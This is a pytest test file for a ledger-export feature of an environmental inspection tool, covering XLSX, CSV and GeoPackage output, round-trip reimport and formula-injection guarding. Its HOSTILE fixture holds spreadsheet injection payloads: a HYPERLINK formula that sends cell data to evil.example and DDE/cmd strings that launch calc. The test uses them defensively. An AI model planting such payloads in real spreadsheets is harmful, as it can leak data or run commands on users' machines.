"""export-ledger: the ledger back in its own shape with progress columns, safe cells, and the round trip."""
from __future__ import annotations

import csv
import datetime as dt
import json
from pathlib import Path

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from evidence_fixtures import attach_closure_photos
from inspector.casework.case_list_query import CaseFilter
from inspector.casework.findings import add_finding
from inspector.casework.rectification import add_rectification, set_checklist
from inspector.casework.workflow import transition
from inspector.importers.ledger_import import import_ledger
from inspector.importers.ledger_values import cell_text
from inspector.importers.zone_import import import_zones
from inspector.reports.ledger_export import export_ledger
from inspector.reports.ledger_rows import workspace_zone
from inspector.store.workspace import Workspace
from inspector.vocabulary import LEDGER_PROGRESS_COLUMNS
from tests.case_fixtures import CENTRE, CORE_CASE, run_cli
from tests.test_ledger_import import HEADER, ledger_rows
from tests.test_zone_import import gk_features
from tests.vector_fixtures import write_layer

HOSTILE = {  # 问题编号 → a 问题描述 a spreadsheet could take for a formula
    "LD-002": '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
    "LD-003": "=cmd|' /C calc'!A0",
    "LD-011": "+86 13800000000",
    "LD-012": "-2+3",
    "LD-013": "@SUM(A1:A9)",
    "LD-014": '=DDE("cmd";"/C calc";"A0")',
}


def write_ledger(path: Path, header: list[str], rows: list[list]) -> Path:
    """An office ledger (title row, header, rows) whose formula-looking texts are string cells."""
    wb = openpyxl.Workbook()
    sheet = wb.active
    sheet.title = "问题台账"
    sheet.append(["2026年“绿盾”问题台账"])
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    for line in sheet.iter_rows(min_row=3):
        for cell in line:
            if isinstance(cell.value, str) and cell.value.startswith("="):
                cell.data_type = "s"
            elif isinstance(cell.value, dt.datetime):
                cell.number_format = "yyyy-mm-dd"
    wb.save(path)
    return path


def office_rows() -> list[list]:
    rows = [r for r in ledger_rows() if r[1] in ("LD-001", "LD-002", "LD-003")]
    for row in rows:
        if row[1] in HOSTILE:
            row[7] = HOSTILE[row[1]]
    for number, case_no in enumerate(("LD-011", "LD-012", "LD-013", "LD-014"), start=11):
        rows.append([number, case_no, "盐城市", "射阳县", "射阳河口湿地", None, "养殖", HOSTILE[case_no],
                     120.51, 33.51, "2026-03-05", "2026-01-31", "射阳县人民政府"])
    return rows


@pytest.fixture
def worked_ws(tmp_path):
    """The office ledger imported into a workspace with zones, and LD-001 worked on up to a return."""
    ws = Workspace.create(tmp_path / "ws")
    import_zones(ws, write_layer(tmp_path / "zones.shp", "ESRI Shapefile", 4549, gk_features(),
                                 layer_options=["ENCODING=CP936"]))
    import_ledger(ws, write_ledger(tmp_path / "台账.xlsx", HEADER, office_rows()))
    transition(ws, CORE_CASE, "现场核查", role="inspector", actor="张三")
    add_finding(ws, CORE_CASE, assessment="确认问题", activity_type="养殖", description="养殖塘")
    transition(ws, CORE_CASE, "确认问题", role="inspector", actor="张三")
    add_rectification(ws, CORE_CASE, measure_type="退出", measures="=退养还湿", deadline="2026-09-30")
    transition(ws, CORE_CASE, "整改中", role="inspector", actor="张三")
    attach_closure_photos(ws, CORE_CASE, tmp_path / "closure", *CENTRE)
    set_checklist(ws, CORE_CASE, items={k: True for k in ("water_cut", "power_cut", "materials_cleared",
                                                           "products_cleared", "equipment_cleared")})
    transition(ws, CORE_CASE, "申请销号", role="inspector", actor="张三")
    transition(ws, CORE_CASE, "退回", role="reviewer", actor="县局", jurisdiction="320904", reason="围网未拆净")
    yield ws
    ws.close()


def sheet_texts(path: Path) -> list[list[str | None]]:
    """The first sheet as the importer reads it (calamine, then cell_text)."""
    rows = CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python(skip_empty_area=False)
    return [[cell_text(c) for c in row] for row in rows]


def test_xlsx_round_trip_keeps_the_original_columns_and_reimports_unchanged(worked_ws, tmp_path):
    out = tmp_path / "导出.xlsx"
    result = run_cli("--workspace", str(worked_ws.root), "export-ledger", "-o", str(out), "--json")
    assert result.returncode == 0, result.stderr
    payload = json.loads(result.stdout)
    assert (payload["file"], payload["format"], payload["rows"]) == (str(out), "xlsx", 7)

    rows = sheet_texts(out)
    assert rows[0] == HEADER + list(LEDGER_PROGRESS_COLUMNS)
    stored = {r[0]: json.loads(r[1]) for r in worked_ws.conn.execute("SELECT case_no, source_record FROM cases")}
    for row in rows[1:]:
        original = stored[row[1]]
        assert row[:len(HEADER)] == [original[name] for name in HEADER]  # byte for byte, in the original order
    progress = {row[1]: dict(zip(LEDGER_PROGRESS_COLUMNS, row[len(HEADER):])) for row in rows[1:]}
    worked = progress[CORE_CASE]
    assert (worked["状态"], worked["核查结论"], worked["现场活动类型"]) == ("整改中", "确认问题", "养殖")
    assert worked["所在生态保护红线/管控区域/保护地"].startswith("射阳河口湿地保护区")
    assert (worked["功能区"], worked["市"], worked["县"]) == ("核心保护区", "盐城市", "大丰区")
    assert worked["整改措施"] == "退出：=退养还湿" and worked["整改时限"] == "2026-09-30"
    assert worked["最近一次退回原因"] == "围网未拆净" and worked["证据数量"] == "2"
    today = dt.datetime.now(workspace_zone(worked_ws)).date()  # the day in the workspace's time zone (Beijing)
    assert worked["整改完成日期"] == today.isoformat() and worked["销号日期"] is None
    assert int(progress["LD-011"]["逾期天数"]) > 0 and progress["LD-003"]["逾期天数"] == "0"

    again = import_ledger(worked_ws, out)
    assert (again.created, again.updated, again.unchanged, again.rejected) == (0, 0, 7, [])


def test_xlsx_cells_are_typed_and_formula_text_stays_text(worked_ws, tmp_path):
    out = export_ledger(worked_ws, tmp_path / "e.xlsx").file
    sheet = openpyxl.load_workbook(out)["问题台账"]
    last = sheet.cell(1, sheet.max_column).column_letter
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:{last}8"
    header = [c.value for c in sheet[1]]
    by_case = {row[1].value: dict(zip(header, row)) for row in sheet.iter_rows(min_row=2)}
    for case_no, text in HOSTILE.items():
        cell = by_case[case_no]["问题描述"]
        assert (cell.data_type, cell.value) == ("s", text)
    assert by_case[CORE_CASE]["整改措施"].data_type == "s"
    assert by_case[CORE_CASE]["发现时间"].is_date and by_case[CORE_CASE]["整改时限"].is_date
    assert by_case["LD-002"]["经度"].data_type == "n" and by_case["LD-002"]["经度"].value == 118.85
    assert by_case[CORE_CASE]["经度"].data_type == "s"  # 120°30′0.0″E stays what the office wrote
    assert by_case[CORE_CASE]["逾期天数"].data_type == "n" and by_case[CORE_CASE]["证据数量"].value == 2
    assert sheet.column_dimensions["H"].width > sheet.column_dimensions["A"].width


def test_reimport_ignores_progress_columns_a_short_ledger_lacks(tmp_path):
    """A ledger without 市/县/功能区/整改时限 columns: the exported progress columns must not fill them."""
    ws = Workspace.create(tmp_path / "ws")
    header = ["问题编号", "经度", "纬度", "问题描述"]
    import_ledger(ws, write_ledger(tmp_path / "short.xlsx", header, [["S-1", 120.5, 33.5, "养殖塘"],
                                                                     ["S-2", 118.85, 32.06, "码头"]]))
    out = export_ledger(ws, tmp_path / "short-out.xlsx").file
    again = import_ledger(ws, out)
    assert (again.created, again.updated, again.unchanged) == (0, 0, 2)
    record = json.loads(ws.conn.execute("SELECT source_record FROM cases WHERE case_no = 'S-1'").fetchone()[0])
    assert list(record) == header
    ws.close()


def test_csv_has_a_bom_guards_formulas_and_reports_what_gbk_cannot_hold(worked_ws, tmp_path):
    worked_ws.conn.execute("UPDATE transitions SET reason = '围网未拆净𠮷' WHERE action = '退回'")
    out = tmp_path / "e.csv"
    result = export_ledger(worked_ws, out)
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(data.decode("utf-8-sig").splitlines()))
    by_case = {row[1]: dict(zip(rows[0], row)) for row in rows[1:]}
    assert by_case["LD-003"]["问题描述"] == "'" + HOSTILE["LD-003"]
    assert by_case["LD-002"]["经度"] == "118.85"  # a negative or plain number is never prefixed
    assert by_case[CORE_CASE]["最近一次退回原因"] == "围网未拆净𠮷"
    assert {w["case_no"] for w in result.warnings} >= set(HOSTILE)

    gbk = run_cli("--workspace", str(worked_ws.root), "export-ledger", "-o", str(tmp_path / "g.csv"),
                  "--encoding", "gbk", "--json", env={"INSPECTOR_LANG": "en"})
    assert gbk.returncode == 0, gbk.stderr
    payload = json.loads(gbk.stdout)
    text = (tmp_path / "g.csv").read_bytes().decode("gbk")
    assert "围网未拆净?" in text and payload["rows"] == 7
    lost = [w for w in payload["warnings"] if w["column"] == "最近一次退回原因"]
    assert [w["case_no"] for w in lost] == [CORE_CASE] and "GBK" in lost[0]["reason"]


def test_gpkg_points_in_cgcs2000_with_the_same_attributes(worked_ws, tmp_path):
    from osgeo import ogr

    out = tmp_path / "e.gpkg"
    assert export_ledger(worked_ws, out).rows == 7
    source = ogr.Open(str(out))
    layer = source.GetLayer(0)
    assert layer.GetSpatialRef().GetAuthorityCode(None) == "4490" and layer.GetFeatureCount() == 7
    names = [layer.GetLayerDefn().GetFieldDefn(i).GetName() for i in range(layer.GetLayerDefn().GetFieldCount())]
    assert names[:len(HEADER)] == HEADER and "整改时限（进度）" in names and "市" in names
    layer.SetAttributeFilter("问题编号 = 'LD-002'")
    feature = layer.GetNextFeature()
    assert feature.GetGeometryRef().GetX() == pytest.approx(118.85) and feature["问题描述"] == HOSTILE["LD-002"]


def test_filters_and_bad_input(worked_ws, tmp_path):
    assert export_ledger(worked_ws, tmp_path / "a.csv", CaseFilter(statuses=("整改中",))).rows == 1
    assert export_ledger(worked_ws, tmp_path / "b.csv", CaseFilter(overdue_only=True)).rows == 5
    assert export_ledger(worked_ws, tmp_path / "c.csv", CaseFilter(county_adcode="320904")).rows == 5
    root = str(worked_ws.root)
    assert run_cli("--workspace", root, "export-ledger", "-o", str(tmp_path / "x.pdf")).returncode == 2
    assert run_cli("--workspace", root, "export-ledger", "-o", str(tmp_path / "x.csv"), "--status", "完成"
                   ).returncode == 2
    assert run_cli("--workspace", root, "export-ledger", "-o", str(tmp_path / "x.xlsx"), "--encoding", "gbk"
                   ).returncode == 2
    assert not list(tmp_path.glob(".*partial*"))


def _square(lon: float, lat: float, half_deg: float) -> dict:
    ring = [[lon - half_deg, lat - half_deg], [lon + half_deg, lat - half_deg], [lon + half_deg, lat + half_deg],
            [lon - half_deg, lat + half_deg], [lon - half_deg, lat - half_deg]]
    return {"type": "Polygon", "coordinates": [ring]}


def test_the_patch_area_and_the_verified_area_close_the_progress_block_and_reimport_unchanged(worked_ws, tmp_path):
    from inspector.casework.verified_extent import set_verified_extent
    from inspector.importers.patch_import import import_patches
    from inspector.vocabulary import LEDGER_PROGRESS_COLUMNS_BEFORE_AREAS

    assert LEDGER_PROGRESS_COLUMNS[:len(LEDGER_PROGRESS_COLUMNS_BEFORE_AREAS)] == LEDGER_PROGRESS_COLUMNS_BEFORE_AREAS
    assert LEDGER_PROGRESS_COLUMNS[-2:] == ("图斑面积（平方米）", "核实面积（平方米）")
    lon, lat = worked_ws.conn.execute("SELECT lon, lat FROM cases WHERE case_no = 'LD-003'").fetchone()
    patch = tmp_path / "patch.geojson"
    patch.write_text(json.dumps({"type": "FeatureCollection", "features": [{
        "type": "Feature", "properties": {"问题编号": "LD-003"}, "geometry": _square(lon, lat, 0.001)}]},
        ensure_ascii=False), encoding="utf-8")
    assert import_patches(worked_ws, patch).updated == 1
    patch_area = worked_ws.conn.execute("SELECT area_m2 FROM cases WHERE case_no = 'LD-003'").fetchone()[0]
    verified = set_verified_extent(worked_ws, "LD-003", _square(lon, lat, 0.0005), actor="张三")["verified_area_m2"]
    assert patch_area > verified > 0

    out = export_ledger(worked_ws, tmp_path / "面积.xlsx").file
    rows = sheet_texts(Path(out))
    assert rows[0] == HEADER + list(LEDGER_PROGRESS_COLUMNS)
    progress = {row[1]: dict(zip(LEDGER_PROGRESS_COLUMNS, row[len(HEADER):])) for row in rows[1:]}
    assert float(progress["LD-003"]["图斑面积（平方米）"]) == pytest.approx(patch_area, abs=0.01)
    assert float(progress["LD-003"]["核实面积（平方米）"]) == pytest.approx(verified, abs=0.01)
    assert progress["LD-002"]["图斑面积（平方米）"] is None and progress["LD-002"]["核实面积（平方米）"] is None
    sheet = openpyxl.load_workbook(out)["问题台账"]
    header = [c.value for c in sheet[1]]
    cells = {row[1].value: dict(zip(header, row)) for row in sheet.iter_rows(min_row=2)}
    assert cells["LD-003"]["核实面积（平方米）"].data_type == "n"
    again = import_ledger(worked_ws, out)
    assert (again.created, again.updated, again.unchanged, again.rejected) == (0, 0, 7, [])

    csv_out = export_ledger(worked_ws, tmp_path / "面积.csv").file
    by_case = {r[1]: dict(zip(HEADER + list(LEDGER_PROGRESS_COLUMNS), r))
               for r in list(csv.reader(Path(csv_out).read_text("utf-8-sig").splitlines()))[1:]}
    assert float(by_case["LD-003"]["核实面积（平方米）"]) == pytest.approx(verified, abs=0.01)
    gpkg = export_ledger(worked_ws, tmp_path / "面积.gpkg").file
    from osgeo import ogr

    source = ogr.Open(str(gpkg))  # kept: a layer dies with its data source
    layer = source.GetLayer(0)
    layer.SetAttributeFilter("问题编号 = 'LD-003'")
    assert layer.GetNextFeature()["核实面积（平方米）"] == pytest.approx(verified, abs=0.01)


def test_an_export_made_before_the_area_columns_still_reimports_unchanged(worked_ws, tmp_path):
    """A ledger exported with the earlier progress block (no area columns) comes back: its block is ignored."""
    from inspector.vocabulary import LEDGER_PROGRESS_COLUMNS_BEFORE_AREAS, original_width

    assert original_width(HEADER + list(LEDGER_PROGRESS_COLUMNS_BEFORE_AREAS)) == len(HEADER)
    assert original_width(HEADER + list(LEDGER_PROGRESS_COLUMNS)) == len(HEADER)
    book = openpyxl.load_workbook(export_ledger(worked_ws, tmp_path / "new.xlsx").file)
    sheet = book["问题台账"]
    width = len(HEADER) + len(LEDGER_PROGRESS_COLUMNS_BEFORE_AREAS)
    sheet.delete_cols(width + 1, sheet.max_column - width)
    assert [c.value for c in sheet[1]] == HEADER + list(LEDGER_PROGRESS_COLUMNS_BEFORE_AREAS)
    older = tmp_path / "old.xlsx"
    book.save(older)
    again = import_ledger(worked_ws, older)
    assert (again.created, again.updated, again.unchanged, again.rejected) == (0, 0, 7, [])
